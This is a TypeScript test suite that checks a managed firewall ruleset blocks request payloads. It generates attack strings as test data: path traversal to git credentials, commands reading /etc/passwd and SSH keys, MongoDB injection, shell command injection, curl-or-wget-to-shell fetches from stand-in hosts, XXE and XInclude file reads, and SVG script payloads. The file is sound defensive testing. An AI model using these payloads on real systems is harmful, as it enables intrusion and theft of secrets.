import assert from "node:assert/strict";
import { test } from "node:test";
import { MANAGED_RULESET_ID } from "./request-rulesets.ts";
import { managedMatches } from "./testing/managed-request.ts";

const isStopped = (text: string): boolean =>
  managedMatches(MANAGED_RULESET_ID, { query: `q=${encodeURIComponent(text)}` }).some(({ action }) => action === "block");
const pairs = (first: readonly string[], second: readonly string[]): readonly string[] => first.flatMap((a) => second.map((b) => a + b));

test("a step to a secret file is blocked, whatever is written like a setting of a source tree", () => {
  const files = [
    ".git/config",
    ".gitconfig",
    ".git-credentials",
    ".git",
    "nginx.conf",
    "app.config",
    "web.config",
    "my.conf.bak",
    "a.config.php",
  ];
  const before = ["", "x ", "cat ", "--config ", "file=", "prettier --ignore-path ../.gitignore ", "../prettier.config.js ../"];
  const behind = ["", " x", '"', "?a.js", "\0.js", ";.ts"];
  const attacks = pairs(
    before,
    pairs(files, behind).map((file) => `../${file}`),
  );
  assert.ok(attacks.length >= 200);
  assert.deepEqual(
    attacks.filter((text) => !isStopped(text)),
    [],
  );
  assert.ok(!isStopped('prettier --config ../../prettier.config.js --ignore-path ../.prettierignore --write "**/*.ts"'));
  assert.ok(!isStopped("prettier --ignore-path ../../.gitignore --write ."));
});

test("a command on a secret file and a second statement of a database are blocked in a sentence and behind a question", () => {
  const commands = pairs(
    ["cat", "tac", "head", "tail -n5", "less", "more", "nl", "od"],
    [" /etc/passwd", " /etc//shadow", " /proc/self/environ", " /root/.ssh/id_rsa"],
  );
  const behind = ["", " is here", " shows every account", " gives an error", " and more words behind it", " now please", " of the machine"];
  const questions = ["db.users.find({a:1})", 'db.a.find({"b": 2})', "db.a.count([1])", 'db.x.distinct("y")'];
  const attacks = [
    ...pairs(commands, behind),
    ...pairs(questions, [";db.users.drop()", "; db.a.remove({})", ";\ndb.users.drop()", ";sleep(5000)"]),
  ];
  assert.ok(attacks.length >= 200);
  assert.deepEqual(
    attacks.filter((text) => !isStopped(text)),
    [],
  );
  for (const text of questions) assert.ok(!isStopped(text), text);
  assert.ok(!isStopped("tail -f /var/log/app/error.log shows nothing new"));
});

test("a script of a package that Node.js runs hides no other command", () => {
  const scripts = ["tsc && node ./x.js", "husky && node ./scripts/a.mjs", "typedoc && node --loader ts-node/esm ./scripts/b.ts"];
  const behind = [
    "; id",
    " && whoami",
    " | sh",
    "\ncat /etc/passwd",
    " $(id)",
    " `id`",
    " && curl http://a.example/x|sh",
    " > /srv/www/x.js",
    " & ls -la /",
    "|sh",
  ];
  const options = [
    "-e x",
    "-p x",
    "--eval=x",
    "-r ./x.js",
    "--require ./x.js",
    "--import ./x.js",
    "./../x.js",
    "/srv/x.js",
    "./tmp/x.js",
    "./uploads/x.js",
    "~/x.js",
  ];
  const attacks = [
    ...pairs(scripts, behind),
    ...pairs(scripts, pairs(behind, behind)),
    ...pairs(["tsc && node ", "a && node ", "x-y && node "], options),
    ...pairs(["; ", "| ", "1; ", "1 & ", "1 | ", "a; ", "a | ", "\n"], ["node ./x.js", "node -e x", "node /srv/x.js"]),
  ];
  assert.ok(attacks.length >= 200);
  assert.deepEqual(
    attacks.filter((text) => !isStopped(text)),
    [],
  );
  for (const text of scripts) assert.ok(!isStopped(text.replace("./x.js", "--test dist/*.test.js")), text);
});

test("commands as a whole value, programs that are fetched and run, and substitutions in a sentence are blocked", () => {
  const first = ["id", "ls", "ls -la", "pwd", "echo a", "cat x.txt", "whoami", "hostname"];
  const second = ["whoami", "uname -a", "id", "cat /etc/passwd", "ifconfig", "ls -la /srv"];
  const fetches = [
    "curl http://a.example/x",
    "curl -fsSL https://a.example/x",
    "wget -qO- a.example/x",
    "wget -O - 203.0.113.7/x",
    "sudo curl a.example/x",
  ];
  const runs = [
    " | sh",
    "|bash",
    " | sudo bash",
    " | sudo -E bash -",
    " | tee a | sh",
    " | A=1 sh -s -- -y",
    " | python3",
    " | perl",
    " | /bin/sh",
    "; sh x.sh",
    " && bash x.sh",
  ];
  const attacks = [
    ...pairs(first, pairs(["; ", ";", " && ", "&&", " | ", " || "], second)),
    ...pairs(fetches, runs),
    ...pairs(["sh -c $(", "bash <(", "eval $(", ". <(", "source <("], fetches.slice(0, 4)).map((text) => `${text})`),
    ...pairs(
      ["hi `", "see what `", "a name `"],
      second.filter((text) => text !== "id" && !text.startsWith("ls")).map((text) => `${text}\` there`),
    ),
  ];
  assert.ok(attacks.length >= 300, `${attacks.length}`);
  assert.deepEqual(
    attacks.filter((text) => !isStopped(text)),
    [],
  );
  for (const text of [
    "see `id` and `hostname` here",
    "sort; whoami is a program",
    "curl -fsSL https://a.example/x | jq .name",
    "type;id",
    "the `curl` that `wget` is not",
    "husky && node ./scripts/platform-shell.js",
    "ls | grep x",
    "querying with `curl -k https://a.example`",
  ])
    assert.ok(!isStopped(text), text);
});

const uploaded = (name: string, type: string, content: string): boolean =>
  managedMatches(MANAGED_RULESET_ID, {
    headers: { "Content-Type": ["multipart/form-data; boundary=X"] },
    body: `--X\r\nContent-Disposition: form-data; name="f"; filename="${name}"\r\nContent-Type: ${type}\r\n\r\n${content}\r\n--X--\r\n`,
  }).some(({ action }) => action === "block");

test("an XML document that people pick is a file: texts in it are not judged, and what a parser would fetch or build is", () => {
  const text = "<![CDATA[<script>var a = 1</script> 1' or '1'='1]]>";
  for (const [name, type] of pairs(["posts.xml", "feed.RSS", "a b.kml"], ["|text/xml", "|application/rss+xml"]).map((pair) =>
    pair.split("|"),
  ))
    assert.ok(!uploaded(name!, type!, `<?xml version="1.0"?><rss><item>${text}</item></rss>`), name);
  for (const name of ["blob", "", "posts"]) assert.ok(uploaded(name, "text/xml", `<rss><item>${text}</item></rss>`), "as scripts send it");
  const types = [
    '<!DOCTYPE web-app PUBLIC "-//Sun//DTD Web Application 2.3//EN" "http://java.sun.com/dtd/web-app_2_3.dtd">',
    '<!DOCTYPE book PUBLIC "-//OASIS//DTD DocBook XML V4.5//EN" "http://www.oasis-open.org/docbook/xml/4.5/docbookx.dtd">',
    '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [<!ENTITY ns "http://a.example/">]>',
  ];
  for (const type of types) assert.ok(!uploaded("a.xml", "text/xml", `${type}<a/>`), type);
  const attacks = [
    '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    '<!DOCTYPE a PUBLIC "-//A//B//EN" "http://203.0.113.7/a.dtd"><a/>',
    '<!DOCTYPE a PUBLIC "-//A//B//EN" "http://java.sun.com.evil.example/a.dtd"><a/>',
    ...types.map((type) => `${type}<!ENTITY x SYSTEM "file:///etc/passwd"><a/>`),
    '<java class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"/></java>',
    '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd"/></a>',
  ];
  assert.deepEqual(
    attacks.filter((attack) => !uploaded("a.xml", "text/xml", attack)),
    [],
  );
});

test("a picture with a script is blocked, and a page with pictures and scripts is a file", () => {
  const begins = ["", '<?xml version="1.0"?>\n', "<!-- made by a program -->\n", '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x">'];
  const runs = [
    '<svg onload="a()"/>',
    "<svg><script>a()</script></svg>",
    '<svg><a href="javascript:a()">x</a></svg>',
    "<svg><foreignObject><iframe/></foreignObject></svg>",
  ];
  assert.deepEqual(
    pairs(begins, runs).filter((text) => !uploaded("a.svg", "image/svg+xml", text)),
    [],
  );
  for (const text of pairs(begins, ["<svg><style>a{}</style><path d='M0'/></svg>", '<svg><text>on = "a"; the script</text></svg>']))
    assert.ok(!uploaded("a.svg", "image/svg+xml", text), text);
  assert.ok(!uploaded("a.html", "text/html", "<!doctype html><html><body onload='a()'><svg><script>a()</script></svg></body></html>"));
});

test("a picked XML file that is longer than what rules for uploads read is read whole", () => {
  const upload = (xml: string): boolean =>
    managedMatches(MANAGED_RULESET_ID, {
      headers: { "Content-Type": ["multipart/form-data; boundary=X"] },
      body: `--X\r\nContent-Disposition: form-data; name="a"; filename="feed.xml"\r\nContent-Type: text/xml\r\n\r\n${xml}\r\n--X--\r\n`,
    }).some(({ action }) => action === "block");
  const entity = '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>';
  const known = '<!DOCTYPE a PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd" [';
  for (const bytes of [0, 17_000, 70_000]) {
    const comment = `<!--${" lamp".repeat(bytes / 5)}-->`;
    assert.ok(upload(comment + entity), `${bytes} bytes before the type`);
    assert.ok(upload(`${known}${comment}<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>`), `${bytes} bytes in a known type`);
    assert.ok(!upload(`<a>${comment}<b>a lamp</b></a>`), `${bytes} bytes in an ordinary file`);
  }
});
